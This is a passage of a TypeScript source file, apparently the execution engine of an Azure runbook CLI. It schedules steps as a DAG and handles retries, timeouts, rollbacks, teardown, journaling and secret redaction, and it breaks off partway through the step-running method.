/**
 * The execution engine: runs a validated runbook as a DAG. Ready steps start as soon as what they need is done, up
 * to a concurrency limit, so a run takes its critical path rather than the sum of its steps. A step waiting on
 * others never holds a slot.
 *
 * Failure semantics (the part Chaos Toolkit users kept tripping over, chaostoolkit#195/#115): a failed step fails the
 * run; no new steps start; running steps finish; the rollbacks of completed steps run in reverse completion order;
 * `finally` steps always run (also after Ctrl-C, with a signal of their own so teardown can complete). A failed
 * rollback or `finally` step makes the run `rollback-failed` and names what was left behind. The one exception: once
 * the journal cannot be written, a rollback or `finally` step that changes something is not started (a change the
 * resume cannot see is how it came to verify a deleted copy, issue 16) — it is named as left (exit 3) and
 * `opsbook resume` runs the teardown recorded.
 *
 * The engine knows nothing about terminals, prompts, oclif or Azure: it emits typed events (awaited, so the journal
 * flushes before a reporter shows anything) and asks the Approver port for approvals.
 */
import {stepBound, type ActionContext, type ActionDefinition, type ApprovalDecision, type Approver, type TrackedOperation} from '../actions/types.js'
import {findAction as findRegisteredAction} from '../actions/registry.js'
import {collectArmWrites, type ArmWrite, type NoWriteFinding} from '../azure/arm-writes.js'
import type {Catalog, Environment} from '../catalog/schema.js'
import {ApprovalRequiredError} from '../errors.js'
import {isSensitiveKey, MIN_SECRET_LENGTH, Redactor, REDACTED} from '../evidence/redact.js'
import {toIsoDuration} from '../support/duration.js'
import type {ErrorInfo, RunEvent, RunStatus, StepPhase, StepStatus} from './events.js'
import {evaluateCondition, evaluateValue, type ExpressionContext} from './expressions.js'
import {flattenSteps, innerSteps, type StepNode} from './groups.js'
import type {ActionCall, Runbook, StepSpec} from './model.js'
import {resolveParams} from './params.js'
import {setLongTimeout, type LongTimer} from '../support/timer.js'

export const DEFAULT_CONCURRENCY = 4
/** How long rollbacks and `finally` together may take before the engine stops waiting and reports what is left. */
export const DEFAULT_TEARDOWN_TIMEOUT_MS = 15 * 60_000
/** How long an aborted action gets to settle on its own before the engine moves on without it. */
const DEFAULT_ABORT_GRACE_MS = 1000

export interface ResumeState {
  /** Steps that succeeded in the previous process: not re-run, their outputs restored. */
  completed: Record<string, {outputs: Record<string, unknown>}>
  /** Operations each step had in flight when the previous process stopped; handed to the action via ctx.operations.inFlight(). */
  inFlight: Record<string, TrackedOperation>
  /** Operations of steps an earlier process was interrupted in; handed to the action via ctx.operations.interrupted(). */
  interrupted?: Record<string, TrackedOperation>
  /** Runbook calls being continued: the params each started with, as journaled (secret ones redacted, taken anew). */
  calls?: Record<string, {params: Record<string, unknown>}>
  /** The run being resumed (recorded in run.started). */
  from?: string
  /**
   * Rollbacks the run did not start because another run had taken the target's lease (in the order they were to
   * run): the run had failed, so the resume finishes its teardown — these rollbacks, then `finally` — and runs no main
   * step again; the run ends failed (exit 1) once they are done, or exit 3 again.
   */
  rollbacks?: string[]
  /** The run's failure, as its last run.finished journaled it (with `rollbacks`). */
  failure?: ErrorInfo
}

export interface ExecuteOptions {
  runbook: Runbook
  runId: string
  /** Resolved params (defaults applied, types checked). */
  params: Record<string, unknown>
  environmentName: string
  environment: Environment
  catalog: Catalog
  approver: Approver
  /** Azure (or emulator) clients, passed through to actions untouched. */
  services: unknown
  /** Ctrl-C: stop launching, abort running steps, then roll back and run `finally`. */
  signal: AbortSignal
  /** Receives every event, redacted; awaited in order (the journal flushes before reporters see it). */
  emit: (event: RunEvent) => Promise<void>
  /**
   * Makes an event durable (the journal's append): called at once, in emit order, so events of one tick share an
   * fsync; `emit` gets the event only after its record resolved. Without it, `emit` itself must record.
   */
  record?: (event: RunEvent) => Promise<unknown>
  /** Steps running at once; default 4. */
  concurrency?: number
  resume?: ResumeState
  /** Decisions given before the run (e.g. `--yes`, `--approve <step>`), by step id: used instead of asking the approver. */
  preApproved?: Record<string, ApprovalDecision> | ((step: string) => ApprovalDecision | undefined)
  now?: () => Date
  /** Shared with the journal and summary so values registered with ctx.secret() are redacted there too. */
  redactor?: Redactor
  /** Aborts rollbacks and `finally` (a last Ctrl-C). Default: only the teardown deadline. */
  teardownSignal?: AbortSignal
  /** The ARM resources each `when-needed` step acts on, by full step id, journaled in run.started (plan.ts planTargets). */
  planTargets?: Record<string, string[]>
  /**
   * The ARM resources a changing step acts on with its evaluated inputs (plan.ts knownTargets), for a step whose target
   * the first plan could not name (an input read from another step's outputs): journaled in its step.started.
   */
  stepTargets?: (uses: string, inputs: Record<string, unknown>) => string[] | undefined
  /** Who runs this segment (the credential's caller and object id), journaled in run.started for the Activity Log witness. */
  principal?: {caller: string; objectId?: string}
  /** Action lookup; defaults to the registry. */
  findAction?: (name: string) => ActionDefinition | undefined
  /** How long an aborted action may take to settle before the engine gives up on it (ms). */
  abortGraceMs?: number
  /**
   * Deadline for rollbacks and `finally` together (ms, default 15 min): a hung operation must not hold teardown
   * forever. When it passes, what is still running is aborted and named as left behind (exit 3).
   */
  teardownTimeoutMs?: number
  /**
   * Asked before each main step that changes something: a reason means the run may no longer change anything (its
   * target lease is lost) — the step is not started and the run fails. Rollbacks and `finally` still run.
   */
  changeGuard?: () => string | undefined | Promise<string | undefined>
  /**
   * Asked before each rollback or `finally` step that changes something: a reason means another run now holds a target
   * this run lost (issue 16 item 8: both would change it) — the step is not started, it is named as left (exit 3), and
   * `opsbook resume` runs it once the other run is done.
   */
  teardownGuard?: () => Promise<string | undefined>
  /**
   * Looks through Azure at an operation of a step that did not finish, after teardown: whether what it created or
   * changed still remains. Without it every such operation is reported as possibly still running.
   */
  inspectOperation?: (operation: TrackedOperation) => Promise<{remains: boolean; detail?: string}>
}

/** What happened to one step (one record per phase: a step and its rollback are separate records). */
export interface StepRecord {
  id: string
  uses: string
  phase: StepPhase
  status: StepStatus
  startedAt?: string
  finishedAt?: string
  durationMs?: number
  attempts: number
  outputs: Record<string, unknown>
  error?: ErrorInfo
  /** Why it was skipped or not started. */
  reason?: string
  /** Failed, but `continueOnError` let the run go on. */
  continued?: boolean
  /** Full id of the group (or called runbook) the step belongs to. */
  parent?: string
}

export interface ApprovalRecord {
  step: string
  approved: boolean
  by: string
  via: ApprovalDecision['via']
  at: string
  reason?: string
}

export interface RunOutcome {
  runId: string
  status: RunStatus
  startedAt: string
  finishedAt: string
  durationMs: number
  /** Main steps in plan order, then rollbacks in the order they ran, then `finally` steps. Redacted. */
  steps: StepRecord[]
  /** The runbook's outputs, evaluated at the end. Redacted. */
  outputs: Record<string, unknown>
  /** What a human must look at: failed rollbacks and teardown, operations that may still be running. */
  leftBehind: string[]
  approvals: ApprovalRecord[]
  error?: ErrorInfo
  /** No step that changes anything succeeded and no Azure operation was started: a failure left everything as it was. */
  nothingChanged: boolean
}

/** Run a runbook to the end (success, failure, or interruption) and report what happened. */
export async function executeRunbook(options: ExecuteOptions): Promise<RunOutcome> {
  return new RunExecution(options).execute()
}

/** An error that marks its step as not worth retrying (bad inputs, denied approval, failed assertion…). */
function isRetryable(error: unknown): boolean {
  if (error instanceof ApprovalRequiredError) return false
  return !(typeof error === 'object' && error !== null && (error as {retryable?: unknown}).retryable === false)
}

class EngineStepError extends Error {
  readonly retryable = false
  constructor(
    message: string,
    readonly code: string,
  ) {
    super(message)
  }
}

class TeardownDeadlineError extends Error {
  readonly timedOut = true
  constructor(timeoutMs: number) {
    super(`teardown did not finish within ${toIsoDuration(timeoutMs)}`)
    this.name = 'TeardownDeadlineError'
  }
}

class StepTimeoutError extends Error {
  readonly timedOut = true
  constructor(timeoutMs: number, defaultOf?: string) {
    super(`timed out after ${toIsoDuration(timeoutMs)}${defaultOf ? ` (the default bound of ${defaultOf}; a \`timeout:\` on the step sets another)` : ''}`)
    this.name = 'StepTimeoutError'
  }
}

/** ErrorInfo from anything thrown. */
export function errorInfo(error: unknown): ErrorInfo {
  if (error instanceof Error) {
    const e = error as Error & {code?: unknown; correlationId?: unknown; timedOut?: unknown; exitCode?: unknown; operationEnded?: unknown}
    const info: ErrorInfo = {message: error.message || error.name}
    if (typeof e.code === 'string') info.code = e.code
    if (typeof e.exitCode === 'number') info.exitCode = e.exitCode
    if (typeof e.correlationId === 'string') info.correlationId = e.correlationId
    if (e.timedOut === true) info.timedOut = true
    if (e.operationEnded === true) info.operationEnded = true
    return info
  }
  return {message: typeof error === 'string' ? error : JSON.stringify(error) ?? String(error)}
}

interface RunnableStep {
  id: string
  phase: StepPhase
  call: ActionCall
  /** Expanded forEach steps: the item and the group, for `item` and `steps.<group>` in expressions. */
  instance?: StepSpec['instance']
  timeoutMs?: number
  /** Set when `timeoutMs` is the action's default bound (no `timeout:` on the step): the action's name. */
  defaultOf?: string
  retry?: {attempts: number; backoffMs: number}
}

type StepResult = {ok: true; outputs: Record<string, unknown>} | {ok: false; error: unknown; interrupted: boolean}

/**
 * One group instance (or the run itself, the root) at run time: whether a failure inside it stopped it, and what
 * its steps see in expressions (see groups.ts).
 */
interface Frame {
  /** Full id of the group; undefined for the run itself. */
  id?: string
  parent?: Frame
  /** A step inside failed (without continueOnError): nothing new starts in this group. */
  failed: boolean
  firstError?: ErrorInfo
  /** Local id → full id of the group's own steps (main and finally). */
  locals: Map<string, string>
  /** A called runbook: sees only its own steps, its params are the caller's `with:`. */
  callee?: Runbook
  params?: Record<string, unknown>
}

class RunExecution {
  private readonly now: () => Date
  private readonly redactor: Redactor
  private readonly findAction: (name: string) => ActionDefinition | undefined
  private readonly concurrency: number
  /** Aborts rollbacks and `finally`: the caller's teardown signal (a last Ctrl-C) or the teardown deadline. */
  private readonly teardownSignal: AbortSignal
  private readonly teardownDeadline = new AbortController()
  /** Aborted once run.finished is written (ActionContext.ended). */
  private readonly ended = new AbortController()
  private teardownTimer?: LongTimer
  private readonly startedAt: Date
  private readonly startedClock = performance.now()

  /** Main and finally step records by full id (what `steps.<id>` reads), inner steps of groups included. */
  private readonly records = new Map<string, StepRecord>()
  /** Every step of the tree by full id. */
  private readonly nodes = new Map<string, StepNode>()
  private readonly root: Frame = {failed: false, locals: new Map()}
  /** Group instances by full id. */
  private readonly frames = new Map<string, Frame>()
  private readonly rollbackRecords: StepRecord[] = []
  /** Main steps in the order they succeeded: rollbacks run in reverse. */
  private readonly completionOrder: string[] = []
  private readonly operations = new Map<string, TrackedOperation[]>()
  /** Operations teardown accounted for (waited for and undid): not left behind. */
  private readonly settledOperations = new Set<string>()
  private readonly approvals: ApprovalRecord[] = []
  private readonly leftBehind: string[] = []

  private emitChain: Promise<void> = Promise.resolve()
  private emitError: unknown
  /** The first event the journal could not write (with `record`; else the first `emit` failure, `emit` records). */
  private journalError: unknown
  /** Events emitted so far, and the number of the first one the journal lost (Infinity: none). */
  private emitted = 0
  private journalLostAt = Number.POSITIVE_INFINITY
  /** Changing steps not started for lack of a journal (`phase id`) → their inputs, shown in what is left. */
  private readonly deferred = new Map<string, string>()
  private finished = false
  private runFailed = false
  private firstError?: ErrorInfo
  private approvalRequired = false
  private teardownFailed = false
  /** A changing step succeeded or an Azure operation started. */
  private changed = false
  /** A changing action was started in this run (whatever its phase or outcome): a teardown may have something to undo. */
  private changeAttempted = false

  constructor(private readonly options: ExecuteOptions) {
    this.now = options.now ?? (() => new Date())
    this.redactor = options.redactor ?? new Redactor()
    this.findAction = options.findAction ?? findRegisteredAction
    this.concurrency = Math.max(1, options.concurrency ?? DEFAULT_CONCURRENCY)
    this.teardownSignal = options.teardownSignal ? AbortSignal.any([options.teardownSignal, this.teardownDeadline.signal]) : this.teardownDeadline.signal
    this.startedAt = this.now()
  }

  async execute(): Promise<RunOutcome> {
    const options = this.options
    const runbook = options.runbook
    const safeParams = this.registerSecretParams()

    const tree = flattenSteps(runbook)
    for (const node of tree) {
      this.nodes.set(node.spec.id, node)
      this.records.set(node.spec.id, this.newRecord(node.spec.id, node.spec.uses, node.phase, node.parent))
      if (node.spec.group) {
        const parent = node.parent ? this.frames.get(node.parent)! : this.root
        this.frames.set(node.spec.id, {id: node.spec.id, parent, failed: false, locals: new Map(), ...(node.spec.group.callee ? {callee: node.spec.group.callee} : {})})
      }
      if (node.parent) this.frames.get(node.parent)!.locals.set(node.localId, node.spec.id)
    }

    await this.emit({
      type: 'run.started',
      runId: options.runId,
      runbook: runbook.name,
      title: runbook.title,
      kind: runbook.kind,
      source: runbook.source,
      sha256: runbook.sha256,
      environment: options.environmentName,
      production: options.environment.production,
      params: safeParams,
      // Plan order, groups followed by their steps (`parent`: the group's full id).
      steps: tree.map((n) => ({
        id: n.spec.id,
        uses: n.spec.uses,
        phase: n.phase,
        changes: this.findAction(n.spec.uses)?.changes ?? false,
        needs: n.spec.needs,
        ...(n.parent ? {parent: n.parent} : {}),
        ...(options.planTargets?.[n.spec.id]?.length ? {targets: options.planTargets[n.spec.id]} : {}),
        // The rollback's own action (its target is journaled when it starts: it is usually read from the step's outputs).
        ...(n.spec.rollback ? {rollback: {uses: n.spec.rollback.uses, changes: this.findAction(n.spec.rollback.uses)?.changes ?? false}} : {}),
      })),
      ...(options.principal ? {principal: options.principal} : {}),
      ...(options.resume?.from ? {resumedFrom: options.resume.from} : {}),
      // Each step's ARM writes are journaled with it (step.succeeded/step.failed `arm`): evidence verify may require
      // the Activity Log to witness them; journals without this mark predate it and are not checkable that way.
      armWrites: true,
    })

    this.restoreCompleted()

    // A failed run whose rollbacks another run's lease held back: its failure stands, no main step runs again; the
    // resume finishes the teardown (those rollbacks, then `finally`), as it does for a `finally` held back (issue 16).
    const pendingRollbacks = options.resume?.rollbacks?.filter((id) => this.records.get(id)?.status === 'succeeded') ?? []
    if (pendingRollbacks.length > 0) {
      this.runFailed = true
      this.firstError = options.resume?.failure ?? {message: 'the run had failed before this resume'}
      for (const node of this.nodes.values())
        if (node.phase === 'main' && this.records.get(node.spec.id)?.status === 'pending') {
          const record = this.records.get(node.spec.id)!
          record.status = 'skipped'
          record.reason = 'not run again: the run had failed; this resume finishes its rollbacks and teardown'
        }
      await this.emit({type: 'run.note', message: `run ${options.runId} had failed; rollbacks left for this resume: ${pendingRollbacks.join(', ')}`})
    } else await this.runGraph(runbook.steps, 'main', options.signal, this.root)
    // Whether to roll back is decided on every main event recorded (a lost one fails the run).
    await this.emitChain
    const interrupted = options.signal.aborted
    if (interrupted) {
      this.runFailed = true
      await this.emit({type: 'run.interrupted', signal: signalName(options.signal), rollback: this.toRollBack(), finally: runbook.finally.map((s) => s.id)})
    }

    this.startTeardownClock()
    try {
      if (this.runFailed) await this.rollback(undefined, pendingRollbacks.length > 0 ? pendingRollbacks : undefined)
      if (runbook.finally.length > 0) {
        await this.emit({type: 'finally.started', steps: runbook.finally.map((s) => s.id)})
        await this.runGraph(runbook.finally, 'finally', this.teardownSignal, this.root)
      }
    } finally {
      this.teardownTimer?.clear()
    }
    await this.noteStrayOperations()
    // Every event so far recorded and delivered (or its loss known) before the run's status is decided.
    await this.emitChain

    // Teardown that did not complete outranks the interruption: a human must look (exit 3), and resume can finish it.
    const status: RunStatus = this.teardownFailed
      ? 'rollback-failed'
      : interrupted
        ? 'interrupted'
        : this.approvalRequired
          ? 'approval-required'
          : this.runFailed
            ? 'failed'
            : 'succeeded'
    const error = interrupted && !this.teardownFailed ? {message: 'interrupted', code: 'interrupted'} : (this.firstError ?? (interrupted ? {message: 'interrupted', code: 'interrupted'} : undefined))
    const outputs = await this.evaluateOutputs()
    const finishedAt = this.now()
    const durationMs = Math.round(performance.now() - this.startedClock)
    await this.emit({type: 'run.finished', status, durationMs, ...(error ? {error} : {}), leftBehind: this.leftBehind, outputs})
    this.finished = true
    await this.emitChain
    // An action still waiting past its abort (a request ARM never answered, kept for its operation to be journaled)
    // has nothing left to wait for: the run is recorded. It kept the CLI alive a minute after the run's last line.
    this.ended.abort(new Error('the run has ended'))

    return this.redactor.redact({
      runId: options.runId,
      status,
      startedAt: this.startedAt.toISOString(),
      finishedAt: finishedAt.toISOString(),
      durationMs,
      steps: [
        ...tree.filter((n) => !this.inFinally(n)).map((n) => this.records.get(n.spec.id)!),
        ...this.rollbackRecords,
        ...tree.filter((n) => this.inFinally(n)).map((n) => this.records.get(n.spec.id)!),
      ],
      outputs,
      leftBehind: [...this.leftBehind],
      approvals: [...this.approvals],
      ...(error ? {error} : {}),
      nothingChanged: !this.changed,
    })
  }

  /** Whether a step belongs to the run's `finally` (itself or inside a group there). */
  private inFinally(node: StepNode): boolean {
    let current: StepNode | undefined = node
    while (current?.parent) current = this.nodes.get(current.parent)
    return current?.phase === 'finally'
  }

  /** The frame a step runs in: its group's, or the run's. */
  private frameOf(id: string): Frame {
    const parent = this.nodes.get(id)?.parent
    return parent ? this.frames.get(parent)! : this.root
  }

  /** The teardown deadline runs from the moment rollbacks or `finally` begin (the first time: it is one deadline). */
  private startTeardownClock(): void {
    if (this.teardownTimer) return
    const timeoutMs = this.options.teardownTimeoutMs ?? DEFAULT_TEARDOWN_TIMEOUT_MS
    this.teardownTimer = setLongTimeout(() => {
      this.teardownDeadline.abort(new TeardownDeadlineError(timeoutMs))
      void this.emit({type: 'run.note', message: `teardown did not finish within ${toIsoDuration(timeoutMs)}: stopping what still runs and reporting what is left`})
    }, timeoutMs)
  }

  // ── events ──────────────────────────────────────────────────────────────────────────────────────────────────

  /**
   * Emit in order; every event is redacted first, so no listener ever sees a registered secret. A listener failure
   * (the journal cannot write) fails the run — nothing new starts unrecorded: rollbacks and `finally` steps still run
   * when they change nothing, those that change something are left for `opsbook resume` (runStep) — the promise
   * resolves either way.
   */
  private emit(event: RunEvent): Promise<void> {
    const safe = this.redactor.redact(event)
    const seq = ++this.emitted
    // Recording starts now (joining this tick's group); delivery waits for it and for the events before.
    const recorded = this.options.record?.(safe)
    // A line that cannot be written stops the run the moment the write fails, not when delivery (which may lag
    // behind: steps that change nothing do not wait for it) reaches it — else the run went on, and could end
    // `succeeded`, with events missing from its journal (issue 16, fault matrix: maintenance-window × disk full).
    recorded?.catch((error: unknown) => {
      this.journalError ??= error ?? new Error('the journal failed')
      this.journalLostAt = Math.min(this.journalLostAt, seq)
      this.eventLost(event, error)
    })
    const delivered = this.emitChain.then(() => recorded).then(() => this.options.emit(safe))
    this.emitChain = delivered.catch((error: unknown) => {
      // A reporter that fails (with a journal that records) fails the run, but does not hold back a recordable teardown.
      if (!this.options.record) {
        this.journalError ??= error ?? new Error('event listener failed')
        this.journalLostAt = Math.min(this.journalLostAt, seq)
      }
      this.eventLost(event, error)
    })
    return this.emitChain
  }

  /** An event could not be recorded or delivered: the run fails (nothing new starts unrecorded). */
  private eventLost(event: RunEvent, error: unknown): void {
    if (this.emitError !== undefined) return
    this.emitError = error ?? new Error('event listener failed')
    if (!this.runFailed) this.firstError = {message: `could not record event ${event.type}: ${errorInfo(error).message}`, code: 'journal-failed'}
    this.runFailed = true
  }

  // ── scheduling ──────────────────────────────────────────────────────────────────────────────────────────────

  /**
   * Run `steps` as a DAG. In the main phase a failure (or the signal) stops new launches; in `finally` every step
   * runs whatever happened before it, in dependency order.
   */
  private async runGraph(steps: StepSpec[], phase: 'main' | 'finally', signal: AbortSignal, frame: Frame): Promise<void> {
    const ids = new Set(steps.map((s) => s.id))
    const waiting = steps.filter((s) => this.records.get(s.id)!.status === 'pending')
    const done = new Set(steps.filter((s) => this.records.get(s.id)!.status !== 'pending').map((s) => s.id))
    const running = new Map<string, Promise<void>>()
    const stopping = () => phase === 'main' && (this.runFailed || signal.aborted || frameFailed(frame))

    for (;;) {
      let launched = true
      while (launched) {
        launched = false
        if (stopping() || running.size >= this.concurrency) break
        const index = waiting.findIndex((s) => s.needs.every((d) => !ids.has(d) || done.has(d)))
        if (index === -1) break
        const [step] = waiting.splice(index, 1)
        launched = true
        const skipReason = this.skipReason(step, phase)
        if (phase === 'finally' && signal.aborted && !(skipReason.kind === 'skip' && skipReason.conditionFalse)) {
          // Teardown was abandoned (a last Ctrl-C or the deadline): what this step would have undone is left.
          await this.skip(step.id, phase, `not started: teardown was stopped (${signalName(signal)})`, 'cancelled')
          if (this.findAction(step.uses)?.changes) this.teardownIncomplete(step, `finally step ${step.id} (${step.uses}) was not run: teardown was stopped (${signalName(signal)})`)
          done.add(step.id)
          continue
        }
        if (skipReason.kind === 'skip') {
          await this.skip(step.id, phase, skipReason.reason, 'skipped')
          done.add(step.id)
          continue
        }
        if (skipReason.kind === 'error') {
          await this.failBeforeStart(step, phase, skipReason.error)
          done.add(step.id)
          continue
        }
        const refused = phase === 'main' && this.findAction(step.uses)?.changes ? await this.options.changeGuard?.() : undefined
        if (refused) {
          await this.emit({type: 'run.note', message: `not starting ${step.id}: ${refused}`, data: {refused: step.id}})
          await this.failBeforeStart(step, phase, new EngineStepError(refused, 'lease-lost'), '')
          done.add(step.id)
          continue
        }
        const promise = (step.group ? this.runGroup(step, phase, signal, frame) : this.runMainOrFinally(step, phase, signal, frame)).finally(() => {
          running.delete(step.id)
          done.add(step.id)
        })
        running.set(step.id, promise)
      }
      if (running.size === 0) break
      await Promise.race(running.values())
    }

    for (const step of waiting) {
      const reason = signal.aborted ? 'not started: the run was interrupted' : frame.id && !this.runFailed ? `not started: group ${frame.id} failed` : 'not started: the run failed'
      await this.skip(step.id, phase, reason, 'cancelled')
    }
  }

  /** Whether a ready step runs: its `if`, else whether something it needs was skipped. */
  private skipReason(step: StepSpec, phase: StepPhase): {kind: 'run'} | {kind: 'skip'; reason: string; conditionFalse?: boolean} | {kind: 'error'; error: unknown} {
    if (step.if !== undefined && step.if.trim() !== '') {
      try {
        return evaluateCondition(step.if, this.expressionContext(phase, step.instance, this.frameOf(step.id)))
          ? {kind: 'run'}
          : {kind: 'skip', reason: `condition is false: ${step.if}`, conditionFalse: true}
      } catch (error) {
        return {kind: 'error', error}
      }
    }
    const skippedNeed = step.needs.find((d) => {
      const status = this.records.get(d)?.status
      return status === 'skipped' || status === 'cancelled'
    })
    if (skippedNeed) return {kind: 'skip', reason: `needs ${skippedNeed}, which was skipped`}
    return {kind: 'run'}
  }

  private async skip(id: string, phase: StepPhase, reason: string, status: 'skipped' | 'cancelled'): Promise<void> {
    const record = this.records.get(id)!
    record.status = status
    record.reason = reason
    await this.emit({type: 'step.skipped', step: id, phase, reason})
  }

  private async failBeforeStart(step: StepSpec, phase: StepPhase, error: unknown, prefix = 'if: '): Promise<void> {
    const record = this.records.get(step.id)!
    const info = errorInfo(error)
    info.message = `${prefix}${info.message}`
    record.status = 'failed'
    record.error = info
    record.startedAt = record.finishedAt = this.now().toISOString()
    record.durationMs = 0
    record.continued = phase === 'main' && step.continueOnError
    await this.emit({type: 'step.failed', step: step.id, phase, error: info, durationMs: 0, attempts: 0, continued: record.continued})
    this.onFailure(step, phase, info, record.continued, this.frameOf(step.id))
  }

  private async runMainOrFinally(step: StepSpec, phase: 'main' | 'finally', signal: AbortSignal, frame: Frame): Promise<void> {
    const record = this.records.get(step.id)!
    const continued = phase === 'main' && step.continueOnError
    const result = await this.runStep({id: step.id, phase, call: step, timeoutMs: step.timeoutMs, retry: step.retry, instance: step.instance}, record, signal, continued)
    if (result.ok) {
      if (phase === 'main') this.completionOrder.push(step.id)
      if (phase === 'main' && this.findAction(step.uses)?.changes) this.changed = true
      return
    }
    if (result.interrupted) {
      // A teardown step cut short by a last Ctrl-C or the deadline did not complete: say so (exit 3).
      if (phase === 'finally') this.teardownIncomplete(step, `finally step ${step.id} (${step.uses}) did not complete: ${record.error?.message ?? 'stopped'}`)
      return
    }
    this.onFailure(step, phase, record.error!, continued, frame)
  }

  private teardownIncomplete(step: StepSpec, message: string): void {
    this.teardownFailed = true
    this.leftBehind.push(message)
  }

  private onFailure(step: StepSpec, phase: StepPhase, info: ErrorInfo, continued: boolean, frame: Frame): void {
    if (phase === 'finally') {
      // Not run for lack of a journal, in a run (not a resume) that started no change: nothing to undo, nothing left.
      if (info.code === 'journal-failed' && !this.changeAttempted && !this.changed && !this.options.resume) return
      this.teardownFailed = true
      this.leftBehind.push(
        info.code === 'journal-failed' ? this.leftForResume('finally step', {id: step.id, uses: step.uses, phase}, frame.id) : `finally step ${step.id} (${step.uses}) failed: ${info.message}`,
      )
      return
    }
    if (continued) return
    // Inside a group a failure stops that group only; the group's own failure then goes to where the group sits.
    const message = `step ${step.id} failed: ${info.message}`
    if (frame.id) {
      if (!frame.failed) frame.firstError = {...info, message}
      frame.failed = true
      return
    }
    if (!this.runFailed) this.firstError = {...info, message}
    this.runFailed = true
  }

  // ── groups and runbook calls ────────────────────────────────────────────────────────────────────────────────

  /**
   * A group (or called runbook) as one node: its steps run as a DAG of their own; when one fails (without
   * continueOnError) nothing new starts in the group, the group's completed steps are rolled back (reverse order)
   * and its `finally` steps run; then the group fails with the first inner failure as its error. Its outputs are
   * read last, in the group's scope.
   */
  private async runGroup(step: StepSpec, phase: 'main' | 'finally', signal: AbortSignal, parent: Frame): Promise<void> {
    const frame = this.frames.get(step.id)!
    const record = this.records.get(step.id)!
    const group = step.group!
    const started = performance.now()
    const continued = phase === 'main' && step.continueOnError
    record.status = 'running'
    record.startedAt = this.now().toISOString()
    let inputs: Record<string, unknown> = {}
    let setupError: unknown
    if (group.callee) {
      try {
        inputs = this.calleeParams(step, phase, frame)
      } catch (error) {
        setupError = error
      }
    }
    record.attempts = 1
    await this.emit({type: 'step.started', step: step.id, phase, uses: step.uses, attempt: 1, inputs: group.callee ? this.safeCalleeParams(group.callee, inputs) : {}})

    const inner = innerSteps(step)
    const groupSignal = phase === 'main' ? signal : this.teardownSignal
    if (setupError === undefined) {
      if (step.timeoutMs === undefined) await this.runGraph(inner.steps, phase, groupSignal, frame)
      else await this.withTimeout(step.timeoutMs, groupSignal, (s) => this.runGraph(inner.steps, phase, s, frame), frame)
    } else {
      frame.failed = true
      frame.firstError = errorInfo(setupError)
    }
    const interrupted = signal.aborted && !frame.failed
    // After an interruption the teardown deadline runs from the first teardown, a group's or a called runbook's
    // included: its finally would otherwise wait for a hung operation with no bound, the run's own finally never
    // reached (issue #16, item 5; fault matrix dr-drill × LRO hung).
    if (this.options.signal.aborted && (frame.failed || inner.finally.length > 0)) this.startTeardownClock()
    if (frame.failed && phase === 'main') await this.rollback(step.id)
    if (inner.finally.length > 0) await this.runGraph(inner.finally, 'finally', this.teardownSignal, frame)

    const outputs: Record<string, unknown> = {}
    const context = this.expressionContext(phase, step.instance, frame)
    for (const [key, value] of Object.entries(group.outputs)) {
      try {
        outputs[key] = evaluateValue(value, context)
      } catch (error) {
        outputs[key] = null
        await this.emit({type: 'run.note', message: `output ${key} of ${step.id} could not be evaluated: ${errorInfo(error).message}`})
      }
    }
    record.finishedAt = this.now().toISOString()
    record.durationMs = Math.round(performance.now() - started)
    record.outputs = outputs
    if (!frame.failed && !interrupted) {
      record.status = 'succeeded'
      if (phase === 'main') this.completionOrder.push(step.id)
      await this.emit({type: 'step.succeeded', step: step.id, phase, outputs, durationMs: record.durationMs, attempts: 1})
      return
    }
    record.status = interrupted ? 'cancelled' : 'failed'
    record.error = interrupted ? {message: 'interrupted', code: 'interrupted'} : (frame.firstError ?? {message: `group ${step.id} failed`})
    record.continued = !interrupted && continued
    await this.emit({type: 'step.failed', step: step.id, phase, error: record.error, durationMs: record.durationMs, attempts: 1, continued: record.continued})
    if (!interrupted) this.onFailure(step, phase, record.error, continued, parent)
  }

  /** A group's `timeout`: past it, what still runs in the group is aborted and the group fails (timedOut). */
  private async withTimeout(timeoutMs: number, signal: AbortSignal, run: (signal: AbortSignal) => Promise<void>, frame: Frame): Promise<void> {
    const timeout = new AbortController()
    const timer = setLongTimeout(() => timeout.abort(new StepTimeoutError(timeoutMs)), timeoutMs)
    try {
      await run(AbortSignal.any([signal, timeout.signal]))
    } finally {
      timer.clear()
    }
    if (timeout.signal.aborted && !signal.aborted && !frame.failed) {
      frame.failed = true
      frame.firstError = errorInfo(timeout.signal.reason)
    }
  }

  /** The params of a called runbook: `with:` evaluated in the caller's scope, typed and defaulted like `--param`. */
  private calleeParams(step: StepSpec, phase: StepPhase, frame: Frame): Record<string, unknown> {
    const callee = step.group!.callee!
    const raw = evaluateValue(step.with ?? {}, this.expressionContext(phase, step.instance, frame.parent ?? this.root)) as Record<string, unknown>
    const given: Record<string, string> = {}
    for (const [name, value] of Object.entries(raw)) if (value !== undefined && value !== null) given[name] = typeof value === 'string' ? value : JSON.stringify(value)
    const {options} = this
    const resolved = resolveParams(callee, given, options.environment, {
      environmentName: options.environmentName,
      context: {env: {...options.environment, name: options.environmentName}, catalog: options.catalog as unknown as Record<string, unknown>, now: this.now},
    })
    if (resolved.missing.length > 0) throw new EngineStepError(`runbook ${callee.name} needs param ${resolved.missing.join(', ')}`, 'invalid-inputs')
    for (const [name, spec] of Object.entries(callee.params))
      if ((spec.type === 'secret' || (spec.type === 'string' && isSensitiveKey(name))) && resolved.values[name] !== undefined && resolved.values[name] !== null)
        this.redactor.add(String(resolved.values[name]))
    // A call continued after a resume keeps the params its kept steps ran with (`with:` may read now() or outputs
    // that differ by now); secret ones were never journaled and come from `with:` again.
    const started = phase === 'main' ? options.resume?.calls?.[step.id]?.params : undefined
    for (const [name, value] of Object.entries(started ?? {}))
      if (callee.params[name] && callee.params[name].type !== 'secret' && !JSON.stringify(value ?? null).includes(REDACTED)) resolved.values[name] = value
    frame.params = resolved.values
    return resolved.values
  }

  private safeCalleeParams(callee: Runbook, values: Record<string, unknown>): Record<string, unknown> {
    return Object.fromEntries(Object.entries(values).map(([k, v]) => [k, callee.params[k]?.type === 'secret' ? REDACTED : v]))
  }

  // ── one step ────────────────────────────────────────────────────────────────────────────────────────────────

  /** Evaluate inputs, run with timeout and retries, validate outputs; updates `record` and emits step events. */
  private async runStep(step: RunnableStep, record: StepRecord, signal: AbortSignal, continued: boolean): Promise<StepResult> {
    const started = performance.now()
    record.status = 'running'
    record.startedAt = this.now().toISOString()
    // The ARM writes the step's attempts make (with ARM's correlation ids): journaled with its outcome, and looked up
